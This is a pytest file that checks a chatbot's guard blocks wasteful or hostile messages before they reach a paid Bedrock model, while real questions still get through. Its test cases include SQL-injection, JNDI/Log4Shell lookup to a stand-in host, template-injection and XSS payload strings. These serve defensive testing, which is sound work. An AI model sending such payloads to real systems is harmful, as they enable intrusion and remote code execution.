"""Waste never reaches the (paid) model: the guard or the relevance gate stops it first."""

from __future__ import annotations

import pytest

from tests.eve.test_guard import labelled

WASTE = [(category, message) for label, category, message in labelled() if label == "waste"]
QUESTIONS = [message for label, _, message in labelled() if label == "question"]


def test_at_least_99_percent_of_waste_makes_no_model_call(portfolio, chat, fake_bedrock):
    """Every labelled wasteful message through the whole pipeline: at most 1% calls Bedrock."""
    reached = []
    for category, message in WASTE:
        before = len(fake_bedrock.requests)
        response = chat(message)
        assert response.status_code == 200, (message, response.content)
        if len(fake_bedrock.requests) > before:
            reached.append((category, message))
    assert len(reached) <= 0.01 * len(WASTE), reached
    assert len(WASTE) >= 440


def test_real_questions_still_reach_the_model(portfolio, chat, fake_bedrock):
    """The other side: the new rules refuse none of the labelled real questions near them."""
    near = [m for label, c, m in labelled() if label == "question" and c == "tricky_real"]
    refused = [m for m in near if chat(m).json()["source"] == "guard"]
    assert refused == []


@pytest.mark.parametrize(
    ("message", "category"),
    [
        ("www.cheap-backlinks.example", "advert"),
        ("Buy followers now https://followers.example", "advert"),
        ("Günstige Backlinks kaufen: www.seo-shop.example", "advert"),
        ("' OR 1=1 --", "injection"),
        ("${jndi:ldap://evil.example/a}", "injection"),
        ("{{7*7}}", "injection"),
        ("<script>alert(1)</script>", "injection"),
        ("Lorem ipsum dolor sit amet, consectetur adipiscing elit", "lorem_ipsum"),
        ("Sed ut perspiciatis unde omnis iste natus error sit voluptatem", "lorem_ipsum"),
        ("how's your day going", "small_talk"),
        ("¿Qué tal tu día?", "small_talk"),
    ],
)
def test_adverts_injections_and_lorem_get_the_friendly_nudge(
    portfolio, chat, fake_bedrock, caplog, message, category
):
    """EVE answers with its nudge (200, guard, wasteful) and logs the category; no model call."""
    caplog.set_level("INFO", logger="eve.services")
    body = chat(message).json()
    assert body["source"] == "guard" and body["blocked"] == "wasteful"
    assert body["status"] == "success" and "Thabo" in body["response"]
    assert f"category={category}" in caplog.text
    assert fake_bedrock.requests == []
